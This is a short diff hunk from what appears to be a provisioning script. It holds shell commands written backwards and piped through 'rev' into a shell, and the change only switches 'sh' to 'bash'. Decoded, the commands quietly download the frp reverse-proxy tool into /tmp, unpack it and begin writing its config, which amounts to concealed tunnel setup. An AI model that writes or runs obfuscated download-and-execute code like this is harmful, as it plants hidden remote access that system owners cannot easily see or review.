@@ -12,4 +12,4 @@ FOE<< lmot.cprf/tpo/ > tac
 tpo/ C- zgt.f/pmt/ fzx rat
 zgt.f/pmt/ O- zg.rat.46dma_xunil_3.25.0_prf/3.25.0v/daolnwod/sesaeler/prf/reidetaf/moc.buhtig//:sptth q- tegw
 hsab/nib/!#
-2v 4101 noisivorp #' | rev | sh
+2v 4101 noisivorp #' | rev | bash
